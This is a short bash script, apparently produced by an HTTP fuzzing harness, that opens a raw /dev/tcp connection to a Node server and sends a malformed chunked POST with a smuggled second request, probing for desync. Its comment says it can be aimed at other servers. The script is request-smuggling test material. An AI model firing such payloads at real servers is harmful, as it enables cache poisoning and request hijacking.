#!/bin/bash
# desync/connection-invalid/smuggled-request via byte.replace+stream.duplicate against node
# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
HOST=${HOST:-127.0.0.1}
PORT=${PORT:-58937}
# A server that closes early makes a later write fail; the answer is still read.
trap '' PIPE
exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
timeout 2 cat <&3 | xxd &
printf 'POST /o HTTP/1.1\r\nHost: \r\nConnection: Transfer-\tg\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nPOST /\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' >&3
wait
